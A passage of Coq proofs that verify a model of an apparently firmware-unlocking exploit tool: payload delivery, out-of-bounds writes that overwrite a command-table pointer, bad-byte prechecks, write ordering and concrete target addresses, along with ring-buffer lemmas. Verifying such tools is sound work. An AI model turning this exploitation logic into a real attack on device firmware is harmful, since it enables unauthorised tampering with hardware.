      * rewrite length_replicate. reflexivity.
      * pose proof (Z.div_mod x 50 ltac:(lia)). lia.
Qed.

Lemma align_up_never_identity_witness :
  align_up 100 50 = Some 150 /\ align_up 100 50 <> Some 100.
Proof.
  destruct (align_up_never_identity 100 ltac:(lia)) as (Hall & Hfifty & _).
  split.
  - apply Hfifty; [reflexivity|lia].
  - apply (Hall 50). lia.
Defined.

(** The same delivery, run: a controller that acknowledges everything
    receives the priming request and the four numbered chunks. *)
Example set_payload_187_requests :
  match craft_and_set_payload emc_ack
          (mkSession [] salina_consts_ true (fw_sized 159) ∅) with
  | Some (r, s') =>
      (r, omap (fun e => match e with
                         | EvRxWaitEcho cmdline _ => Some (take 9 cmdline)
                         | _ => None
                         end) (events s'))
  | None => (new_timeout, [])
  end
  = (new_success [],
     [lit "puareq1 0"; lit "puareq2 0"; lit "puareq2 1"; lit "puareq2 2";
      lit "puareq2 3"]).
Proof. vm_compute. reflexivity. Qed.

(** ** [write_oob] and [overwrite_cmd_table_ptr] *)

Lemma bind_ret_l {A B} (a : A) (k : A -> M B) (s : Session) :
  bind (ret a) k s = k a s.
Proof. reflexivity. Qed.

Lemma bind_assoc {A B C} (m : M A) (f : A -> M B) (g : B -> M C) (s : Session) :
  bind (bind m f) g s = bind m (fun a => bind (f a) g) s.
Proof. unfold bind. destruct (m s) as [[a s']|]; reflexivity. Qed.

Lemma write_oob_run (value : list u8) (s : Session) :
  write_oob value s = Some (tt, log s (write_oob_events (chip_consts_ s) value)).
Proof.
  unfold write_oob, nak, write_str_blocking, busy_wait_ms, busy_wait_us,
    uart_rx_clear, bind, emit, get_session. cbn [chip_consts_ log].
  rewrite !log_log. reflexivity.
Qed.

Lemma write_oob_all_run (values : list (list u8)) (s : Session) :
  write_oob_all values s
    = Some (tt, log s (flat_map (write_oob_events (chip_consts_ s)) values)).
Proof.
  revert s. induction values as [|v rest IH]; intros s; cbn [write_oob_all flat_map].
  - unfold ret. rewrite log_nil. reflexivity.
  - unfold bind. rewrite write_oob_run, IH. rewrite log_log. reflexivity.
Qed.

Lemma write_oob_all_app (a b : list (list u8)) (s : Session) :
  write_oob_all (a ++ b) s = (write_oob_all a ;;; write_oob_all b) s.
Proof.
  revert s. induction a as [|v a IH]; intros s; cbn [write_oob_all app].
  - reflexivity.
  - rewrite bind_assoc. apply bind_ext. intros _ s'. apply IH.
Qed.

Lemma oob_value_filler (n : nat) (wait_tx : bool) :
  oob_value (EvUartWrite
               (map (fun i => nth (i mod length lut)%nat lut zero) (seq 0 n))
               wait_tx) = None.
Proof. do 8 (destruct n as [|n]; [reflexivity|]). reflexivity. Qed.

Lemma oob_values_write_oob_events (cc : ChipConsts) (b0 b1 b2 b3 : u8) :
  oob_values (write_oob_events cc [b0; b1; b2; b3]) = [[b0; b1; b2; b3]].
Proof.
  unfold oob_values, write_oob_events. cbn [omap list_omap].
  rewrite oob_value_filler. reflexivity.
Qed.

Lemma oob_values_app (a b : list Event) :
  oob_values (a ++ b) = oob_values a ++ oob_values b.
Proof. apply omap_app. Qed.

Lemma oob_values_write_oob_all (cc : ChipConsts) (values : list (list u8)) :
  Forall (fun v => length v = 4%nat) values ->
  oob_values (flat_map (write_oob_events cc) values) = values.
Proof.
  induction 1 as [|v rest Hv _ IH]; [reflexivity|].
  cbn [flat_map]. rewrite oob_values_app, IH.
  destruct v as [|b0 [|b1 [|b2 [|b3 [|? ?]]]]]; try discriminate.
  rewrite oob_values_write_oob_events. reflexivity.
Qed.

(** The first loop either meets a special byte or fills [target] with the
    bytes of the address. *)
Lemma fill_target_spec (write_val : Z) :
  fill_target write_val (seq 0 4) (replicate 4 zero)
    = if has_special_byte write_val then None else Some (target_of write_val).
Proof.
  unfold has_special_byte, target_of. cbn [seq map fill_target existsb replicate].
  repeat match goal with
         | |- context [is_special ?b] => destruct (is_special b); cbn [orb]
         end; reflexivity.
Qed.

Lemma length_target_of (write_val : Z) : length (target_of write_val) = 4%nat.
Proof. reflexivity. Qed.

Lemma prewrite_loop_spec (target : list u8) (todo : list nat) (s : Session) :
  prewrite_loop target todo s
    = write_oob_all
        (flat_map (fun i =>
                     let pos := (length target - i - 1)%nat in
                     if is_printable (nth pos target zero)
                     then [zero_upto pos target] else []) todo) s.
Proof.
  revert s. induction todo as [|i todo IH]; intros s; cbn [prewrite_loop flat_map].
  - reflexivity.
  - cbv zeta. rewrite write_oob_all_app.
    destruct (is_printable _); cbn [write_oob_all].
    + rewrite !bind_assoc. apply bind_ext. intros _ s'.
      rewrite bind_ret_l. apply IH.
    + rewrite !bind_ret_l. apply IH.
Qed.

(** When no byte is special, the function is the pre-writes followed by
    the write of the full value. *)
Lemma overwrite_cmd_table_ptr_writes (s : Session) :
  let target := target_of (ucmd_ua_buf_addr (fw_consts_ s)) in
  has_special_byte (ucmd_ua_buf_addr (fw_consts_ s)) = false ->
  overwrite_cmd_table_ptr s
    = (write_oob_all (prewrites target ++ [target]) ;;; ret true) s.
Proof.
  intros target Hok. unfold overwrite_cmd_table_ptr.
  unfold bind at 1, get_session. rewrite fill_target_spec, Hok. fold target.
  unfold bind. rewrite prewrite_loop_spec. fold (prewrites target).
  rewrite !write_oob_all_run, write_oob_run. unfold ret.
  rewrite flat_map_app, log_log. cbn [flat_map chip_consts_ log].
  rewrite app_nil_r. reflexivity.
Qed.

Lemma overwrite_cmd_table_ptr_refuses (s : Session) :
  has_special_byte (ucmd_ua_buf_addr (fw_consts_ s)) = true ->
  overwrite_cmd_table_ptr s = Some (false, s).
Proof.
  intros Hbad. unfold overwrite_cmd_table_ptr, bind, get_session.
  rewrite fill_target_spec, Hbad. reflexivity.
Qed.

(** [to_send]: the elements up to and including [pos] are zero, the rest
    is [target]'s. *)
Lemma zero_upto_spec (pos : nat) (target : list u8) :
  zero_upto pos target
    = replicate (min (S pos) (length target)) zero ++ drop (S pos) target.
Proof.
  unfold zero_upto. rewrite Nat.add_1_r.
  induction pos as [|pos IH].
  - destruct target as [|b target]; reflexivity.
  - rewrite seq_S, fold_left_app, IH. cbn [fold_left Nat.add].
    destruct (le_lt_dec (length target) (S pos)) as [Hge|Hlt].
    + rewrite list_insert_ge
        by (rewrite length_app, length_replicate, length_drop; lia).
      rewrite !Nat.min_r by lia. rewrite !drop_ge by lia. reflexivity.
    + rewrite !Nat.min_l by lia.
      rewrite insert_app_r_alt by (rewrite length_replicate; lia).
      rewrite length_replicate, Nat.sub_diag.
      destruct (lookup_lt_is_Some_2 target (S pos) Hlt) as [y Hy].
      rewrite (drop_S target y (S pos) Hy). cbn [insert list_insert].
      rewrite (replicate_S_end (S pos)). rewrite <- app_assoc. reflexivity.
Qed.

Lemma prewrites_target_of (target : list u8) :
  length target = 4%nat ->
  prewrites target
    = flat_map (fun pos =>
                  if is_printable (nth pos target zero)
                  then [replicate (S pos) zero ++ drop (S pos) target]
                  else [])
               [3; 2; 1; 0]%nat.
Proof.
  intros Hlen. unfold prewrites. rewrite Hlen. cbn [seq flat_map Nat.sub].
  rewrite !zero_upto_spec, Hlen. reflexivity.
Qed.

Lemma Forall_length_prewrites (target : list u8) :
  length target = 4%nat ->
  Forall (fun v => length v = 4%nat) (prewrites target ++ [target]).
Proof.
  intros Hlen. apply Forall_app. split; [|repeat constructor; exact Hlen].
  rewrite (prewrites_target_of target Hlen). cbn [flat_map].
  repeat match goal with
         | |- context [is_printable ?b] => destruct (is_printable b)
         end;
    repeat (apply Forall_cons_2 || apply Forall_nil_2);
    rewrite length_app, length_replicate, length_drop; lia.
Qed.

(** The overwrite writes of a run that passes the precheck. *)
Lemma overwrite_cmd_table_ptr_values (s : Session) :
  let target := target_of (ucmd_ua_buf_addr (fw_consts_ s)) in
  has_special_byte (ucmd_ua_buf_addr (fw_consts_ s)) = false ->
  exists s',
    overwrite_cmd_table_ptr s = Some (true, s') /\
    oob_values (events s')
      = oob_values (events s) ++ prewrites target ++ [target].
Proof.
  intros target Hok.
  rewrite (overwrite_cmd_table_ptr_writes s Hok). fold target.
  unfold bind. rewrite write_oob_all_run. unfold ret.
  eexists. split; [reflexivity|]. cbn [events log].
  rewrite oob_values_app. f_equal.
  apply oob_values_write_oob_all, Forall_length_prewrites, length_target_of.
Qed.

(** C2 (as amended): when no byte of the address is special,
    [overwrite_cmd_table_ptr] returns true after these overwrite writes,
    in this order: for each byte of the address in the printable range,
    taken from the most significant to the least significant, one write
    of the value with that byte and all bytes sent before it zeroed; then
    the write of the full four-byte value. With exactly one printable
    byte that is two writes. *)
Theorem overwrite_cmd_table_ptr_write_order (s : Session) :
  let target := target_of (ucmd_ua_buf_addr (fw_consts_ s)) in
  has_special_byte (ucmd_ua_buf_addr (fw_consts_ s)) = false ->
  (exists s',
     overwrite_cmd_table_ptr s = Some (true, s') /\
     oob_values (events s')
       = oob_values (events s) ++ prewrites target ++ [target]) /\
  prewrites target
    = flat_map (fun pos =>
                  if is_printable (nth pos target zero)
                  then [replicate (S pos) zero ++ drop (S pos) target]
                  else [])
               [3; 2; 1; 0]%nat /\
  (forall p,
     (p < 4)%nat ->
     (forall j, (j < 4)%nat ->
                is_printable (nth j target zero) = true <-> j = p) ->
     overwrite_cmd_table_ptr s
       = (write_oob (replicate (S p) zero ++ drop (S p) target) ;;;
          write_oob target ;;;
          ret true) s).
Proof.
  intros target Hok.
  pose proof (overwrite_cmd_table_ptr_writes s Hok) as Hrun. fold target in Hrun.
  assert (Hpre := prewrites_target_of target (length_target_of _)).
  split; [|split; [exact Hpre|]].
  - exact (overwrite_cmd_table_ptr_values s Hok).
  - intros p Hp Hone. rewrite Hrun.
    assert (Hlist : prewrites target
                    = [replicate (S p) zero ++ drop (S p) target]).
    { assert (Hval : forall j, (j < 4)%nat ->
                is_printable (nth j target zero) = (j =? p)%nat).
      { intros j Hj. specialize (Hone j Hj).
        destruct (Nat.eqb_spec j p) as [->|Hne]; [apply Hone; reflexivity|].
        destruct (is_printable _); [|reflexivity].
        exfalso. apply Hne, Hone. reflexivity. }
      rewrite Hpre. cbn [flat_map]. rewrite !Hval by lia.
      destruct p as [|[|[|[|p]]]]; try lia; reflexivity. }
    rewrite Hlist. cbn [app write_oob_all].
    rewrite !bind_assoc. apply bind_ext. intros _ s1.
    rewrite !bind_assoc. apply bind_ext. intros _ s2. reflexivity.
Qed.

Lemma overwrite_cmd_table_ptr_write_order_witness :
  has_special_byte 0x1762e8 = false /\
  exists s',
    overwrite_cmd_table_ptr (session_with (fw_sized 44)) = Some (true, s') /\
    oob_values (events s')
      = [bytes [0x00; 0x00; 0x17; 0x00]; bytes [0xe8; 0x62; 0x17; 0x00]].
Proof.
  split; [reflexivity|].
  destruct (overwrite_cmd_table_ptr_write_order (session_with (fw_sized 44))
              eq_refl) as ((s' & Hrun & Hvalues) & _).
  exists s'. split; [exact Hrun|]. rewrite Hvalues. reflexivity.
Defined.

(** C2, the claim as stated fails: the address 0x00414243 has no special
    byte and three printable ones, and the corruption is performed four
    times, not twice. *)
Lemma overwrite_cmd_table_ptr_four_writes :
  has_special_byte 0x414243 = false /\
  existsb is_printable (target_of 0x414243) = true /\
  exists s',
    overwrite_cmd_table_ptr (session_with (mkFwConstants 0x414243 []))
      = Some (true, s') /\
    oob_values (events s')
      = [bytes [0x00; 0x00; 0x00; 0x00]; bytes [0x00; 0x00; 0x41; 0x00];
         bytes [0x00; 0x42; 0x41; 0x00]; bytes [0x43; 0x42; 0x41; 0x00]] /\
    length (oob_values (events s')) <> 2%nat.
Proof.
  split; [reflexivity|]. split; [reflexivity|].
  destruct (overwrite_cmd_table_ptr_values
              (session_with (mkFwConstants 0x414243 [])) eq_refl)
    as (s' & Hrun & Hvalues).
  exists s'. split; [exact Hrun|]. rewrite Hvalues.
  split; [reflexivity|]. discriminate.
Qed.

(** A byte is special when it is a backspace, a CR, an LF or a NAK. *)
Lemma is_special_spec (b : u8) :
  is_special b = true <->
  Z_of_u8 b = 0x08 \/ Z_of_u8 b = 0x0D \/ Z_of_u8 b = 0x0A \/ Z_of_u8 b = 0x15.
Proof.
  unfold is_special. rewrite !orb_true_iff, !chr_eqb_eq.
  split.
  - intros [[[-> | ->] | ->] | ->]; vm_compute; auto.
  - intros H. rewrite <- (u8_of_Z_of_u8 b).
    destruct H as [-> | [-> | [-> | ->]]]; vm_compute; auto.
Qed.

Lemma has_special_byte_spec (write_val : Z) :
  has_special_byte write_val = true <->
  exists i, (i < 4)%nat /\
            is_special (u8_of_Z (Z.land (Z.shiftr write_val (Z.of_nat i * 8)) 0xff))
              = true.
Proof.
  unfold has_special_byte, target_of. cbn [seq map existsb].
  rewrite !orb_true_iff. split.
  - intros [H | [H | [H | [H | H]]]]; [exists 0%nat | exists 1%nat | exists 2%nat | exists 3%nat | discriminate];
      (split; [lia | exact H]).
  - intros (i & Hi & H).
    destruct i as [|[|[|[|i]]]]; [auto | auto | auto | auto 6 | lia].
Qed.

Lemma address_byte_range (write_val : Z) (i : nat) :
  0 <= Z.land (Z.shiftr write_val (Z.of_nat i * 8)) 0xff < 256.
Proof.
  change 0xff with (Z.ones 8). rewrite Z.land_ones by lia.
  apply Z.mod_pos_bound. lia.
Qed.

(** After the two earlier stages of [exploit_setup] have succeeded, its
    result is decided by [overwrite_cmd_table_ptr]. *)
Lemma exploit_setup_last_stage (emc : Emc) (s0 s1 s2 : Session) (r1 r2 : Result) :
  resolve_constants emc s0 = Some (r1, s1) -> is_success r1 = true ->
  craft_and_set_payload emc s1 = Some (r2, s2) -> is_success r2 = true ->
  exploit_setup emc s0
    = (ok <- overwrite_cmd_table_ptr ;;
       if negb ok then ret (new_ng StatusCode.kFwConstsInvalid [])
       else ret (new_success [])) s2.
Proof.
  intros Hres Hr1 Hcraft Hr2.
  unfold exploit_setup. unfold bind at 1. rewrite Hres, Hr1. cbn [negb].
  unfold bind at 1. rewrite Hcraft, Hr2. reflexivity.
Qed.

(** C3: [has_special_byte] holds exactly when one of the four bytes of
    the address is a backspace, CR, LF or NAK. With such a byte
    [overwrite_cmd_table_ptr] returns false and leaves the session
    untouched, so no write at all is made, and an [exploit_setup] whose
    earlier stages succeeded returns Ng with [kFwConstsInvalid]. Without
    one, the function goes on to the writes, ending with the full value,
    returns true, and [exploit_setup] succeeds. *)
Theorem overwrite_cmd_table_ptr_precheck (emc : Emc) (s : Session) :
  let write_val := ucmd_ua_buf_addr (fw_consts_ s) in
  (has_special_byte write_val = true <->
   exists i, (i < 4)%nat /\
     let b := Z.land (Z.shiftr write_val (Z.of_nat i * 8)) 0xff in
     b = 0x08 \/ b = 0x0D \/ b = 0x0A \/ b = 0x15) /\
  (has_special_byte write_val = true ->
     overwrite_cmd_table_ptr s = Some (false, s) /\
     forall s0 s1 r1 r2,
       resolve_constants emc s0 = Some (r1, s1) -> is_success r1 = true ->
       craft_and_set_payload emc s1 = Some (r2, s) -> is_success r2 = true ->
       exploit_setup emc s0
         = Some (new_ng StatusCode.kFwConstsInvalid [], s)) /\
  (has_special_byte write_val = false ->
     exists s3,
       overwrite_cmd_table_ptr s = Some (true, s3) /\
       oob_values (events s3)
         = oob_values (events s) ++ prewrites (target_of write_val)
             ++ [target_of write_val] /\
       forall s0 s1 r1 r2,
         resolve_constants emc s0 = Some (r1, s1) -> is_success r1 = true ->
         craft_and_set_payload emc s1 = Some (r2, s) -> is_success r2 = true ->
         exploit_setup emc s0 = Some (new_success [], s3)).
Proof.
  intros write_val. split; [|split].
  - rewrite has_special_byte_spec. split.
    + intros (i & Hi & Hsp). exists i. split; [exact Hi|]. cbv zeta.
      apply is_special_spec in Hsp. rewrite Z_of_u8_of_Z in Hsp.
      rewrite Z.mod_small in Hsp by apply address_byte_range. exact Hsp.
    + intros (i & Hi & Hb). exists i. split; [exact Hi|].
      apply is_special_spec. rewrite Z_of_u8_of_Z.
      rewrite Z.mod_small by apply address_byte_range. exact Hb.
  - intros Hbad. pose proof (overwrite_cmd_table_ptr_refuses s Hbad) as Hrun.
    split; [exact Hrun|]. intros s0 s1 r1 r2 Hres Hr1 Hcraft Hr2.
    rewrite (exploit_setup_last_stage emc s0 s1 s r1 r2 Hres Hr1 Hcraft Hr2).
    unfold bind. rewrite Hrun. reflexivity.
  - intros Hok.
    destruct (overwrite_cmd_table_ptr_values s Hok) as (s3 & Hrun & Hvalues).
    exists s3. split; [exact Hrun|]. split; [exact Hvalues|].
    intros s0 s1 r1 r2 Hres Hr1 Hcraft Hr2.
    rewrite (exploit_setup_last_stage emc s0 s1 s r1 r2 Hres Hr1 Hcraft Hr2).
    unfold bind. rewrite Hrun. reflexivity.
Qed.

Lemma overwrite_cmd_table_ptr_precheck_witness :
  has_special_byte 0x170a38 = true /\
  exists s2,
    exploit_setup emc_ack (session_with (mkFwConstants 0x170a38 (replicate 44 zero)))
      = Some (new_ng StatusCode.kFwConstsInvalid [], s2) /\
    oob_values (events s2) = [].
Proof.
  split; [reflexivity|].
  set (s0 := session_with (mkFwConstants 0x170a38 (replicate 44 zero))).
  set (s2 := match craft_and_set_payload emc_ack s0 with
             | Some (_, s) => s
             | None => s0
             end).
  assert (Hcraft : craft_and_set_payload emc_ack s0 = Some (new_success [], s2))
    by (vm_compute; reflexivity).
  destruct (overwrite_cmd_table_ptr_precheck emc_ack s2) as (_ & Hbad & _).
  destruct (Hbad eq_refl) as [_ Hsetup].
  exists s2. split.
  - exact (Hsetup s0 s0 (new_success []) (new_success [])
             eq_refl eq_refl Hcraft eq_refl).
  - vm_compute. reflexivity.
Defined.

(** ** [autorun] *)

Lemma cmd_send_recv_run (emc : Emc) (cmdline : str) (timeout_us : Z) (s : Session) :
  cmd_send_recv emc cmdline timeout_us s
    = if emc_echo emc (events s ++ take 2 (cmd_events cmdline timeout_us))
      then Some (match emc_reply emc (events s ++ cmd_events cmdline timeout_us) with
                 | Some (ok, status, text) =>
                     mkResult (if ok then kOk else kNg) status text
                 | None => new_timeout
                 end, log s (cmd_events cmdline timeout_us))
      else Some (new_timeout, log s (take 2 (cmd_events cmdline timeout_us))).
Proof.
  unfold cmd_send_recv, cmd_send, read_result, write_str_blocking, bind, emit,
    get_session, ret. cbn [negb events log firstn cmd_events].
  rewrite <- !app_assoc. cbn [app].
  destruct (emc_echo emc _); cbn [negb events log];
    rewrite ?log_log, <- ?app_assoc; reflexivity.
Qed.

(** A successful probe has sent the NAK and the [getserialno] command and
    read its result, and nothing else. *)
Lemma is_unlocked_success (emc : Emc) (s s' : Session) (r : Result) :
  is_unlocked emc s = Some (r, s') -> is_success r = true ->
  s' = log s is_unlocked_events.
Proof.
  unfold is_unlocked, nak, getserialno, write_str_blocking, busy_wait_ms.
  unfold bind at 1 2. rewrite !emit_total, log_log. cbn [app].
  rewrite cmd_send_recv_run. intros Hrun Hr.
  destruct (emc_echo emc _); inversion Hrun; subst; [|discriminate].
  rewrite log_log. reflexivity.
Qed.

(** C8: when the reset line is not asserted and the probe [is_unlocked]
    succeeds, [autorun] returns success in the session the probe left:
    it has sampled the reset line, cleared the receive buffer, sent the
    NAK and [getserialno], and done nothing else; no constant is
    resolved, no payload delivered, no overwrite written and no trigger
    sent. *)
Theorem autorun_already_unlocked (emc : Emc) (s s' : Session) (r : Result) :
  reset_level emc (events s ++ [EvResetSample]) = true ->
  is_unlocked emc (log s [EvResetSample; EvRxClear]) = Some (r, s') ->
  is_success r = true ->
  autorun emc s = Some (new_success [], s') /\
  s' = log s ([EvResetSample; EvRxClear] ++ is_unlocked_events) /\
  commands_sent (events s') = commands_sent (events s) ++ [lit "getserialno"] /\
  oob_values (events s') = oob_values (events s).
Proof.
  intros Hreset Hprobe Hr.
  assert (Hs' := is_unlocked_success emc _ s' r Hprobe Hr).
  rewrite log_log in Hs'.
  split; [|split; [exact Hs'|]].
  - unfold autorun, reset_is_reset, uart_rx_clear.
    unfold bind at 1 2 3. rewrite emit_total. unfold get_session, ret.
    cbn [events log]. rewrite Hreset. cbn [negb].
    unfold bind at 1. rewrite emit_total, log_log. cbn [app].
    unfold bind at 1. rewrite Hprobe, Hr. reflexivity.
  - subst s'. cbn [events log]. unfold commands_sent, oob_values.
    rewrite !omap_app. split.
    + f_equal.
    + rewrite <- (app_nil_r (omap oob_value (events s))) at 2. f_equal.
Qed.

Lemma autorun_already_unlocked_witness :
  autorun emc_ack Session_init
    = Some (new_success [],
            log Session_init ([EvResetSample; EvRxClear] ++ is_unlocked_events)).
Proof.
  apply (autorun_already_unlocked emc_ack Session_init
           (log Session_init ([EvResetSample; EvRxClear] ++ is_unlocked_events))
           (new_success [])).
  - reflexivity.
  - reflexivity.
  - reflexivity.
Defined.

(** ** The ring buffer: [read_line] *)

(** Without a newline among the bytes it visits, the scan copies them all
    and leaves the buffer as it is. *)
Lemma read_line_scan_no_newline (BufferSize : Z) (b : Buffer) :
  forall (n k : nat) (line : str),
    let visited :=
      map (fun j => buffer_at b (add BufferSize (rpos b) (Z.of_nat j)))
          (seq k n) in
    chr_LF ∉ visited ->
    read_line_scan BufferSize n (Z.of_nat k) b line = (b, line ++ visited, false).
Proof.
  induction n as [|n IH]; intros k line visited Hno.
  - simpl. rewrite app_nil_r. reflexivity.
  - subst visited. cbn [seq map] in *. cbn [read_line_scan].
    apply not_elem_of_cons in Hno as [Hc Hrest].
    destruct (chr_eqb _ chr_LF) eqn:E.
    + apply chr_eqb_eq in E. congruence.
    + replace (Z.of_nat k + 1) with (Z.of_nat (S k)) by lia.
      rewrite IH by exact Hrest. rewrite <- app_assoc. reflexivity.
Qed.

(** C10: when the stored bytes contain no newline, [read_line] returns
    false and leaves the buffer exactly as it was: read index, write
    index, storage and even the newline counter. If the quick test lets
    the scan run (a non-zero counter on a non-empty buffer), the scan
    copies every stored byte to the caller's string without consuming
    any, and the string is cleared before the return; otherwise the
    string is not touched. *)
Theorem read_line_without_newline (BufferSize : Z) (b : Buffer) (line : str) :
  chr_LF ∉ stored BufferSize b ->
  read_line_scan BufferSize (Z.to_nat (read_available BufferSize b)) 0 b line
    = (b, line ++ stored BufferSize b, false) /\
  read_line BufferSize b line
    = Some (false,
            if (num_newlines b =? 0) || empty b then line else [],
            b).
Proof.
  intros Hno.
  assert (Hscan :
    read_line_scan BufferSize (Z.to_nat (read_available BufferSize b)) 0 b line
    = (b, line ++ stored BufferSize b, false)).
  { exact (read_line_scan_no_newline BufferSize b _ 0 line Hno). }
  split; [exact Hscan|].
  unfold read_line. destruct ((num_newlines b =? 0) || empty b); [reflexivity|].
  rewrite Hscan. reflexivity.
Qed.

Lemma read_line_without_newline_witness :
  let b := push Buffer1k_size buffer_full1k chr_LF in
  num_newlines b = 1 /\ empty b = false /\
  read_line Buffer1k_size b (lit "stale") = Some (false, [], b).
Proof.
  intros b. split; [vm_compute; reflexivity|].
  split; [vm_compute; reflexivity|].
  refine (proj2 (read_line_without_newline Buffer1k_size b (lit "stale") _)).
  apply (bool_decide_unpack _). vm_compute. reflexivity.
Defined.

(** ** The ring buffer: what does preserve the invariant *)

Lemma count_newlines_nil : count_newlines [] = 0.
Proof. reflexivity. Qed.

Lemma count_newlines_app (l1 l2 : list u8) :
  count_newlines (l1 ++ l2) = count_newlines l1 + count_newlines l2.
Proof. unfold count_newlines. rewrite filter_app, length_app. lia. Qed.

Lemma count_newlines_cons (c : u8) (l : list u8) :
  count_newlines (c :: l)
    = (if chr_eqb c chr_LF then 1 else 0) + count_newlines l.
Proof.
  unfold count_newlines. rewrite filter_cons.
  destruct (chr_eqb c chr_LF) eqn:E.
  - rewrite decide_True by reflexivity. cbn [length]. lia.
  - rewrite decide_False by discriminate. lia.
Qed.

Lemma count_newlines_nonneg (l : list u8) : 0 <= count_newlines l.
Proof. unfold count_newlines. lia. Qed.

Lemma count_newlines_le (l : list u8) : count_newlines l <= Z.of_nat (length l).
Proof. unfold count_newlines. pose proof (length_filter (fun c => chr_eqb c chr_LF = true) l). lia. Qed.

Lemma count_newlines_none (l : list u8) :
  chr_LF ∉ l -> count_newlines l = 0.
Proof.
  induction l as [|c l IH]; intros H; [reflexivity|].
  apply not_elem_of_cons in H as [Hc Hl]. rewrite count_newlines_cons, IH by exact Hl.
  destruct (chr_eqb c chr_LF) eqn:E; [|reflexivity].
  apply chr_eqb_eq in E. congruence.
Qed.

Lemma lookup_map_seq {A} (f : nat -> A) (n i : nat) :
  map f (seq 0 n) !! i = if (i <? n)%nat then Some (f i) else None.
Proof.
  induction n as [|n IH].
  - destruct (i <? 0)%nat eqn:E; [apply Nat.ltb_lt in E; lia|]. reflexivity.
  - rewrite seq_S, map_app. cbn [map Nat.add].
    destruct (Nat.ltb_spec i n) as [Hlt|Hge].
    + rewrite lookup_app_l by (rewrite length_map, length_seq; exact Hlt).
      rewrite IH. destruct (Nat.ltb_spec i n); [|lia].
      destruct (Nat.ltb_spec i (S n)); [reflexivity|lia].
    + rewrite lookup_app_r by (rewrite length_map, length_seq; exact Hge).
      rewrite length_map, length_seq.
      destruct (Nat.ltb_spec i (S n)) as [Hlt'|Hge'].
      * replace (i - n)%nat with 0%nat by lia. replace i with n by lia. reflexivity.
      * destruct (i - n)%nat as [|m] eqn:Em; [lia|]. reflexivity.
Qed.

Section RingBufferInvariant.
(** The buffer size is [2 ^ k], small enough for a 32-bit [size_t]. *)
Variable k : Z.
Hypothesis Hk : 0 <= k < 32.

Local Abbreviation B := (2 ^ k).

Lemma BufferSize_range : 0 < B <= 2 ^ 31.
Proof.
  split; [apply Z.pow_pos_nonneg; lia|].
  apply Z.pow_le_mono_r; lia.
Qed.

Lemma add_spec (val addend : Z) :
  0 <= val + addend < 2 ^ 32 -> add B val addend = (val + addend) mod B.
Proof.
  intros H. unfold add, len_mask, size_wrap. rewrite Z.mod_small by exact H.
  replace (B - 1) with (Z.ones k) by (rewrite Z.ones_equiv; lia).
  apply Z.land_ones. lia.
Qed.

Lemma mod_window_inj (r i j : Z) :
  0 <= i < B -> 0 <= j < B -> (r + i) mod B = (r + j) mod B -> i = j.
Proof.
  intros Hi Hj Heq. pose proof BufferSize_range as HB.
  pose proof (Z.div_mod (r + i) B ltac:(lia)) as Di.
  pose proof (Z.div_mod (r + j) B ltac:(lia)) as Dj.
  rewrite Heq in Di.
  assert (Hd : i - j = B * ((r + i) / B - (r + j) / B)) by lia.
  assert (Hz : (r + i) / B - (r + j) / B = 0) by nia.
  rewrite Hz in Hd. lia.
Qed.

(** The number of bytes held is the distance from the read to the write
    index, going round. *)
Lemma read_available_spec (b : Buffer) :
  buffer_wf B b ->
  0 <= read_available B b <= B - 1 /\
  (rpos b + read_available B b) mod B = wpos b.
Proof.
  intros (Hw & Hr & _). pose proof BufferSize_range as HB.
  unfold read_available, size_wrap.
  destruct (wpos b >=? rpos b) eqn:E.
  - split; [lia|]. replace (rpos b + (wpos b - rpos b)) with (wpos b) by lia.
    apply Z.mod_small. lia.
  - assert (2 ^ 32 = 2 * 2 ^ 31) by reflexivity.
    rewrite (Z.mod_small (B - rpos b)) by lia.
    rewrite (Z.mod_small (B - rpos b + wpos b)) by lia.
    split; [lia|].
    replace (rpos b + (B - rpos b + wpos b)) with (wpos b + 1 * B) by lia.
    rewrite Z.mod_add by lia. apply Z.mod_small. lia.
Qed.

Lemma read_available_unique (b : Buffer) (n : Z) :
  buffer_wf B b -> 0 <= n < B -> (rpos b + n) mod B = wpos b ->
  read_available B b = n.
Proof.
  intros Hwf Hn Hmod. destruct (read_available_spec b Hwf) as [Hrange Hw].
  apply (mod_window_inj (rpos b)); [lia|exact Hn|]. congruence.
Qed.

Lemma length_stored (b : Buffer) :
  length (stored B b) = Z.to_nat (read_available B b).
Proof. unfold stored. rewrite length_map, length_seq. reflexivity. Qed.

Lemma stored_lookup (b : Buffer) (i : nat) :
  buffer_wf B b ->
  stored B b !! i
    = if (i <? Z.to_nat (read_available B b))%nat
      then Some (buffer_at b ((rpos b + Z.of_nat i) mod B)) else None.
Proof.
  intros Hwf. unfold stored. rewrite lookup_map_seq.
  destruct (Nat.ltb_spec i (Z.to_nat (read_available B b))) as [Hlt|Hge];
    [|reflexivity].
  destruct (read_available_spec b Hwf) as [Hrange _].
  destruct Hwf as (_ & Hr & _). pose proof BufferSize_range.
  assert (2 ^ 32 = 2 * 2 ^ 31) by reflexivity.
  rewrite add_spec by lia. reflexivity.
Qed.

(** Moving the read index forward by [n] held bytes drops the first [n]
    stored bytes and nothing else. *)
Lemma stored_consume (b b' : Buffer) (n : Z) :
  buffer_wf B b -> 0 <= n <= read_available B b ->
  wpos b' = wpos b -> buffer b' = buffer b ->
  rpos b' = (rpos b + n) mod B ->
  buffer_wf B b' /\
  read_available B b' = read_available B b - n /\
  stored B b' = drop (Z.to_nat n) (stored B b).
Proof.
  intros Hwf Hn Hw Hbuf Hr. pose proof BufferSize_range as HB.
  destruct (read_available_spec b Hwf) as [Hrange Havail].
  assert (Hwf' : buffer_wf B b').
  { destruct Hwf as (H1 & H2 & H3). unfold buffer_wf.
    rewrite Hw, Hbuf, Hr. pose proof (Z.mod_pos_bound (rpos b + n) B). lia. }
  assert (Havail' : read_available B b' = read_available B b - n).
  { apply read_available_unique; [exact Hwf'|lia|].
    rewrite Hr, Hw, Zplus_mod_idemp_l, <- Havail. f_equal. lia. }
  split; [exact Hwf'|]. split; [exact Havail'|].
  apply list_eq. intros i.
  rewrite lookup_drop, !stored_lookup by assumption.
  rewrite Havail'.
  destruct (Nat.ltb_spec i (Z.to_nat (read_available B b - n)));
    destruct (Nat.ltb_spec (Z.to_nat n + i) (Z.to_nat (read_available B b)));
    try lia; [|reflexivity].
  unfold buffer_at. rewrite Hbuf, Hr, Zplus_mod_idemp_l.
  replace (Z.of_nat (Z.to_nat n + i)) with (n + Z.of_nat i) by lia.
  rewrite Z.add_assoc. reflexivity.
Qed.

Lemma buffer_ok_inv (b : Buffer) : buffer_ok B b -> buffer_inv B b.
Proof.
